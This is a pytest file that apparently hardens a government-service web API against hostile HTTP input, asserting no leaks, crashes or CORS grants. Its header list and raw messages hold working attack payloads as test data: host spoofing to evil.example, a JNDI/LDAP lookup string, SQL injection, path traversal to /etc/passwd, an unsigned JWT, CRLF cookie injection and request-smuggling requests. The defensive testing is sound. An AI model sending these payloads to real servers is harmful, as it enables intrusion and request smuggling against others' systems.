"""Headers, methods and messages no screen sends: nobody gets in, nothing is told or falls over."""

import asyncio
import re
import uuid
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

import httpx
import pytest

from shared.client.base import ApiClient
from tests.api.people import Person, enter
from tests.conftest import Services

Citizen = Callable[[int], Awaitable[ApiClient]]
INSIDES = re.compile(
    rb"Traceback|site-packages|asyncpg|litestar|File \"|line \d+, in", re.IGNORECASE
)
LONG = "a" * 6000
HEADERS: list[dict[str, str]] = [
    {"Host": "evil.example"},
    {"Host": "evil.example:80@portal.example"},
    {"X-Forwarded-Host": "evil.example"},
    {"X-Forwarded-For": "127.0.0.1, ::1, not-an-address"},
    {"X-Forwarded-For": "' or 1=1 --"},
    {"X-Forwarded-Proto": "javascript"},
    {"X-Original-URL": "/api/v1/officer-accounts", "X-Rewrite-URL": "/metrics"},
    {"X-HTTP-Method-Override": "DELETE"},
    {"X-MotCua-Face": "officer"},
    {"X-MotCua-Face": "../../etc/passwd"},
    {"Accept": "text/html;q=zzz, application/xml"},
    {"Accept": "*/*" * 400},
    {"Accept-Language": "en;q=\x01"},
    {"Accept-Encoding": "gzip;q=1.5, bogus"},
    {"Content-Type": "application/xml"},
    {"Content-Type": "multipart/form-data"},
    {"Content-Type": "application/json; charset=utf-7"},
    {"Content-Encoding": "gzip"},
    {"Cookie": "motcua_citizen=" + LONG},
    {"Cookie": "motcua_citizen=\"; motcua_officer='; =; ;;;"},
    {"Cookie": "motcua_citizen=%00%0d%0aSet-Cookie: a=b"},
    {"Cookie": "motcua_known_citizen=x.y.z"},
    {"Authorization": "Bearer " + ".".join(["eyJhbGciOiJub25lIn0", "e30", ""])},
    {"Authorization": "Basic ÿÿÿ".encode().decode("latin-1")},
    {"If-None-Match": '"' * 500},
    {"If-Match": "*"},
    {"Range": "bytes=-1,0-,5-2"},
    {"Idempotency-Key": "ÿ" * 20},
    {"Idempotency-Key": LONG},
    {"Origin": "null"},
    {"Origin": "https://evil.example"},
    {"Origin": "http://[::1"},
    {"Referer": "http://[::1"},
    {"Sec-Fetch-Site": "cross-site"},
    {"User-Agent": "<script>alert(1)</script>"},
    {"User-Agent": "%n%s${jndi:ldap://evil.example/a}"},
    {"Expect": "100-continue"},
    {"Content-Type": "application/json", "Referer": "http://[::1"},
    {"Forwarded": "for=127.0.0.1;host=evil.example"},
    {f"X-Many-{n}": "x" for n in range(60)},
]
PLACES = [
    ("GET", "/api/v1/procedures"),
    ("GET", "/api/v1/me"),
    ("GET", f"/api/v1/dossiers/{uuid.uuid4()}"),
    ("POST", "/api/v1/session"),
    ("POST", "/api/v1/drafts"),
    ("PATCH", f"/api/v1/drafts/{uuid.uuid4()}"),
]


@pytest.mark.parametrize("headers", HEADERS, ids=lambda headers: str(headers)[:50])
async def test_headers_no_browser_sends_change_nothing(
    http: httpx.AsyncClient, headers: dict[str, str]
) -> None:
    sent = [(k.encode(), v.encode("latin-1")) for k, v in headers.items()]
    for method, path in PLACES:
        body = b'{"username": "x", "password": "y"}' if method != "GET" else b""
        if body and "Content-Type" not in headers:
            sent = [*sent, (b"Content-Type", b"application/json")]
        answer = await http.request(method, path, headers=sent, content=body)
        http.cookies.clear()
        assert answer.status_code < 500, (method, path, answer.text)
        assert answer.status_code >= 400 or path == "/api/v1/procedures"
        assert not INSIDES.search(answer.content), answer.text
        assert "evil.example" not in str(answer.headers), answer.headers
        assert "access-control-allow-origin" not in answer.headers
        # What is no HTTP at all never gets past the server to our own words.
        if answer.status_code >= 400 and answer.text != "Invalid HTTP request received.":
            assert answer.headers["content-type"].startswith("application/problem+json")


async def test_a_foreign_origin_is_told_nothing(http: httpx.AsyncClient, citizen: Citizen) -> None:
    me = await citizen(12)
    foreign = {"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}
    asked = await http.options("/api/v1/drafts", headers=foreign)
    read = await http.get("/api/v1/me", headers=me._headers | foreign)
    for answer in (asked, read):
        assert not [name for name in answer.headers if name.startswith("access-control")]


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PROPFIND", "PUT", "DELETE", "QUERY"])
async def test_methods_nobody_declared_are_refused(http: httpx.AsyncClient, method: str) -> None:
    for path in ("/api/v1/procedures", "/api/v1/me", "/health/live"):
        answer = await http.request(method, path, headers={"X-Told": "back"})
        assert answer.status_code in (400, 404, 405), (method, path, answer.status_code)
        assert b"X-Told" not in answer.content


async def test_a_parameter_sent_twice_is_read_once(http: httpx.AsyncClient) -> None:
    twice = await http.get("/api/v1/procedures?q=khai+sinh&q=%27;--&limit=5&limit=100")
    assert twice.status_code in (200, 400)
    if twice.status_code == 200:
        assert len(twice.json()["items"]) <= 100


async def test_a_made_up_address_does_not_get_round_the_limit(
    http: httpx.AsyncClient, person: Person
) -> None:
    """Only the last address before the trusted proxy counts, whatever stands before it."""
    statuses = [
        (
            await enter(
                http, person, password="sai",
                headers={"X-Forwarded-For": f"198.51.100.{n}, 203.0.113.77"},
            )
        ).status_code
        for n in range(7)
    ]  # fmt: skip
    assert statuses[-1] == 429, statuses


@pytest.mark.parametrize(
    "message",
    [
        b"POST /api/v1/session HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/v1/me HTTP/1.1\r\nHost: x\r\n\r\n",
        b"POST /api/v1/session HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nContent-Length: 40\r\n"
        b"\r\nabcdGET /api/v1/me HTTP/1.1\r\nHost: x\r\n\r\n",
    ],
    ids=["length-and-chunks", "two-lengths"],
)
async def test_a_message_with_two_lengths_is_refused(services: Services, message: bytes) -> None:
    answer = await _raw(services.api_url, message)
    assert answer.startswith(b"HTTP/1.1 400"), answer[:200]
    assert answer.count(b"HTTP/1.1 ") == 1, "no second request was read out of the first"


@pytest.mark.parametrize(
    "message",
    [
        b"GET /api/v1/me HTTP/1.1\r\nHost: x\r\nX-A: b\x00c\r\n\r\n",
        b"GET /api/v1/me\x00 HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /api/v1/me HTTP/9.9\r\nHost: x\r\n\r\n",
        b"GET /api/v1/me HTTP/1.1\r\nHost: x\r\nConnection: upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"GET " + b"/" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /api/v1/me HTTP/1.1\r\nHost: x\r\n" + b"X-Many: yes\r\n" * 5000 + b"\r\n",
    ],
    ids=[
        "zero-in-header",
        "zero-in-path",
        "version",
        "websocket",
        "tls",
        "long-path",
        "many-headers",
    ],
)
async def test_what_is_no_message_is_answered_or_dropped(
    services: Services, http: httpx.AsyncClient, message: bytes
) -> None:
    answer = await _raw(services.api_url, message)
    assert not INSIDES.search(answer)
    assert not re.match(rb"HTTP/1.1 (101|2|5)", answer), answer[:200]
    assert (await http.get("/health/live")).status_code == 200


async def _raw(address: str, message: bytes) -> bytes:
    """What comes back for bytes written as they are, until the other side closes or is silent."""
    where = urlsplit(address)
    got = b""
    reader, writer = await asyncio.open_connection(where.hostname, where.port)
    try:
        writer.write(message)
        await writer.drain()
        while chunk := await asyncio.wait_for(reader.read(65536), timeout=3):
            got += chunk
        return got
    except (TimeoutError, ConnectionError):
        return got
    finally:
        writer.close()
